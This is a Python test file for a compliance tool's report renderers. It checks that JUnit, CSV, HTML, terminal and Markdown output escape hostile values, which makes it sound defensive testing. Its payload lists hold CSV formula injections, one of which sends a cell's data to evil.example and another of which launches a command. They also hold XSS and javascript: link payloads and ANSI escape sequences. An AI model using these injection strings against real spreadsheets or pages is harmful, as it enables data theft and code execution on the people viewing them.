"""The report set as its consumers read it: JUnit in junitparser (what GitLab and CI
reporters show), CSV in a spreadsheet's eyes, with hostile values from AWS, the policy,
a waiver or an edited report."""

import csv
import io
from pathlib import Path
from xml.etree import ElementTree as ET

import junitparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policycheck.render import FORMATS
from policycheck.render.tabular import COLUMNS, FORMULA_STARTS
from policycheck.report.model import Report, Result
from support.checks import make_report, make_result
from support.harness import run_cli

#: What an attacker controls: a resource's name, a policy's sentence, an environment.
PAYLOADS = [
    "\x1b[31m\x01",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "<script>alert(1)</script>",
    "](javascript:alert(1))",
    "`x` ``",
    "\ud800 lone surrogate",
]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("demo")
    result = run_cli("demo", "--output-dir", out, "--format", "json,junit,csv", cwd=out)
    assert result.returncode == 0, result.stderr
    return out


def hostile(value: str, status: str = "fail") -> Result:
    result = make_result(status=status, name=value, environment=value)
    return result.model_copy(
        update={
            "message": f"found {value}",
            "remediation": f"run {value}",
            "resource": result.resource.model_copy(update={"arn": value, "name": value}),
        }
    )


def junit_cases(text: str) -> list[junitparser.TestCase]:
    return [case for _, case in suite_cases(text)]


def suite_cases(text: str) -> list[tuple[str, junitparser.TestCase]]:
    """Each test case with its suite's name (the environment)."""
    xml = junitparser.JUnitXml.fromstring(text.encode())
    return [(suite.name, case) for suite in xml for case in suite]


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_junit_is_well_formed_under_any_input(value: str) -> None:
    """A resource name, a message, an environment with any characters: still XML."""
    report = make_report(hostile(value), hostile(value, "error"), hostile(value, "pass"))
    [case, *_] = junit_cases(FORMATS["junit"].render(report))
    assert case.name  # parsed


@pytest.mark.parametrize("value", PAYLOADS)
def test_junit_with_a_control_character_in_a_name_parses(value: str) -> None:
    text = FORMATS["junit"].render(make_report(hostile(value)))
    ET.fromstring(text.encode())  # the standard library's parser too
    [case] = junit_cases(text)
    [failure] = case.result
    assert isinstance(failure, junitparser.Failure)
    if value.startswith("\x1b"):
        assert "\\x1b[31m\\x01" in (failure.text or "") and "\x1b" not in text


def test_junit_failure_body_is_the_finding_then_the_fix(demo: Path) -> None:
    """GitLab shows the body: what was found (observed against expected), where, then
    the fix; `time` is how long the facts took."""
    report = Report.model_validate_json((demo / "report.json").read_text())
    results = {(r.environment, r.check_id, r.resource.arn): r for r in report.results}
    cases = suite_cases((demo / "report.junit.xml").read_text())
    failing = [
        (results[(suite, c.classname, c.name)], c)
        for suite, c in cases
        if c.result and isinstance(c.result[0], junitparser.Failure)
    ]
    assert len(failing) == report.summary.results.fail == 10
    for result, case in failing:
        body = case.result[0].text or ""
        lines = body.splitlines()
        assert lines[0] == result.message
        assert f"resource: {result.resource.arn}" in lines
        assert f"environment: {result.environment}" in lines
        assert any(line.startswith("observed: ") for line in lines)
        assert any(line.startswith("expected: ") for line in lines)
        assert body.index("observed: ") < body.index("fix: ")
        assert lines[-1] == f"fix: {result.remediation}"
    assert sum(case.time for _, case in cases) > 0
    for suite, case in cases:
        result = results[(suite, case.classname, case.name)]
        facts = result.evidence.facts if result.evidence else []
        assert case.time == pytest.approx(sum(f.seconds or 0 for f in facts), abs=0.0006)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_severity_and_remediation(demo: Path) -> None:
    rows = _cells((demo / "report.csv").read_text())
    assert list(rows[0]) == COLUMNS
    failing = [row for row in rows if row["status"] == "fail"]
    assert failing and all(row["severity"] and row["remediation"] for row in failing)
    assert all(row["remediation"] == "" for row in rows if row["status"] == "pass")


@pytest.mark.parametrize("value", PAYLOADS)
def test_no_csv_cell_is_a_formula(value: str) -> None:
    """OWASP's CSV injection: a cell starting with = + - @ tab or CR is run by a
    spreadsheet; each is written with a ' in front."""
    result = hostile(value)
    control_id = result.control_ids[0]
    from policycheck.report.model import ControlInEnvironment, ControlResult, Counts

    control = ControlResult(
        id=control_id,
        title=value,
        status="fail",
        counts=Counts(fail=1, total=1),
        checks=[result.check_id, "other"],
        checks_not_run=[],
        requirements={result.check_id: value},
        environments={"prod": ControlInEnvironment(status="not_assessed", reason=value)},
        frameworks={"NIST-800-53": {value: "why"}},
    )
    rows = _cells(FORMATS["csv"].render(make_report(result, controls=(control,))))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    if value.startswith(FORMULA_STARTS):
        for column in ("requirement", "environment", "resource_arn"):
            assert rows[0][column] == "'" + value.replace("\r", "\n"), column


def test_html_puts_what_failed_first_and_no_fix_on_a_pass(demo: Path) -> None:
    """An auditor sees the failures before the 30-row crosswalk; a passing result shows
    no remediation command."""
    from policycheck.render.html import render_html

    report = Report.model_validate_json((demo / "report.json").read_text())
    page = render_html(report)
    findings = page[page.index('<section id="findings">') : page.index('<section id="run">')]
    assert page.index('<section id="findings">') < page.index('<section id="crosswalk">')
    assert findings.count("<li>") == report.summary.results.fail == 10
    assert "mcp-oauth-storage-databricks-dev</code> in dev: point-in-time recovery" in findings
    articles = page.split("<article ")[1:]
    passing = [a for a in articles if a.startswith('class="result filterable" data-status="pass"')]
    failing = [a for a in articles if a.startswith('class="result filterable" data-status="fail"')]
    assert passing and not [a for a in passing if "Remediation:" in a]
    assert failing and all("Remediation:" in a for a in failing)


def test_the_terminal_lists_each_finding_after_the_matrix(demo: Path) -> None:
    """`run` and `demo` print what failed, a line each, capped with the count of the rest;
    a name's ANSI escape is shown, not run."""
    from policycheck.render.terminal import finding_lines, summary_table

    report = Report.model_validate_json((demo / "report.json").read_text())
    printed = summary_table(report)
    assert (
        printed.index("Control ")
        < printed.index(
            "FAIL ssm-parameter-secure on /aiconnectors/prod/mcps/databricks/client-secret (prod): "
            "parameter is a String; expected SecureString"
        )
        < printed.index("FAIL: 136 passed")
    )
    assert len(finding_lines(report)) == 10
    cut = finding_lines(report, limit=3)
    assert len(cut) == 4 and cut[-1].startswith("... and 7 more")
    [line] = finding_lines(make_report(hostile("\x1b[2J\x1b]0;x\x07")))
    assert "\x1b" not in line and "\\x1b[2J" in line


#: What must stay text in Markdown: raw HTML, a javascript: link, a code span closed early,
#: an ANSI escape, emphasis and a table cell split.
MARKUP_PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/phish)",
    "x` <b>bold</b> `y",
    "\x1b[31mred\x1b[0m",
    "**strong** _em_ ~~gone~~ | split",
    "![img](http://evil.example/x.png)",
]


def _hostile_report(value: str) -> Report:
    """Every place a value from AWS, the policy, a waiver or a report reaches report.md."""
    from policycheck.report.model import (
        ControlInEnvironment,
        ControlResult,
        Counts,
        Gap,
        WaiverInfo,
    )

    failed = hostile(value)
    waived = hostile(value, "waived").model_copy(
        update={
            "check_id": "d",
            "waiver": WaiverInfo(
                check="d",
                environment=value,
                resource=value,
                justification=value,
                owner=value,
                ticket=value,
                expires="2099-01-01",
                expired=False,
            ),
        }
    )
    control = ControlResult(
        id="C.1",
        title=value,
        status="fail",
        reason=value,
        counts=Counts(fail=1, waived=1, total=2),
        checks=["c", "d"],
        checks_not_run=[],
        requirements={"c": value},
        environments={value: ControlInEnvironment(status="fail")},
        manual=[value],
        frameworks={"NIST-800-53": {"AC-6": value}},
        framework_checks={"NIST-800-53": {"AC-6": ["c"]}},
    )
    report = make_report(failed, waived, controls=(control,))
    gap = Gap(environment=value, reason=value)
    return report.model_copy(
        update={"run": report.run.model_copy(update={"gaps": [gap], "deadline": value})}
    )


def _markup_leaks(markdown: str, value: str) -> list[str]:
    """What a GitHub-flavoured renderer (markdown-it-py, gfm-like) made markup of: raw
    HTML, links and images, emphasis; and the value's text must be shown whole."""
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("gfm-like")
    tokens = renderer.parse(markdown)
    leaks = [t.type for t in tokens if t.type.startswith("html")]
    inline = [child for t in tokens if t.children for child in t.children]
    leaks += [
        f"{t.type} {t.attrs}"
        for t in inline
        if t.type.startswith(("html", "link_open", "image", "em_", "strong_", "s_open"))
    ]
    html = renderer.render(markdown)
    if "\x1b" in html:
        leaks.append("ANSI escape")
    return leaks


@pytest.mark.parametrize("value", MARKUP_PAYLOADS)
def test_markdown_views_keep_every_value_as_text(value: str) -> None:
    """report.md, summary.md (appended to $GITHUB_STEP_SUMMARY) and the diff: no payload
    becomes markup; it shows as text."""
    from markdown_it import MarkdownIt

    from policycheck.render.diff import render_diff_markdown
    from policycheck.report.diff import diff_reports

    report = _hostile_report(value)
    views = {
        "report.md": FORMATS["markdown"].render(report),
        "summary.md": FORMATS["summary"].render(report),
        "diff": render_diff_markdown(diff_reports(make_report(), report)),
    }
    for name, markdown in views.items():
        # The headings and emphasis policycheck writes itself are markup; remove them.
        own = markdown.replace("**", "").replace("_Truncated", "Truncated")
        assert _markup_leaks(own, value) == [], name
    shown = MarkdownIt("gfm-like").render(views["report.md"])
    if value.startswith("x`"):
        assert "<code>x` &lt;b&gt;bold&lt;/b&gt; `y</code>" in shown  # one code span, whole
    if value.startswith("<img"):
        assert "&lt;img src=x onerror=alert(1)&gt;" in shown
    if value.startswith("[click](javascript"):
        assert "[click](javascript:alert(1))" in shown  # the text, not a link
